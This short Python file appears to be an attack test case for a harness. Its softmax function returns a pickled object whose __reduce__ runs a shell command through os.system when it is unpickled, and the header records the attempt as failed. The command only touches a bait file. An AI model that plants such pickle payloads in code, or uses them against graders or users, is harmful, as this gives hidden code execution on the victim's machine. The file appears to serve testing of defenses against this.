# /// attack
# tries = "Returns a pickle, in case somebody unpacks it."
#
# [outcomes]
# softmax = "failed"
# ///
import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @BAIT@/pickled",)


def softmax(logits):
    return pickle.dumps(Command())
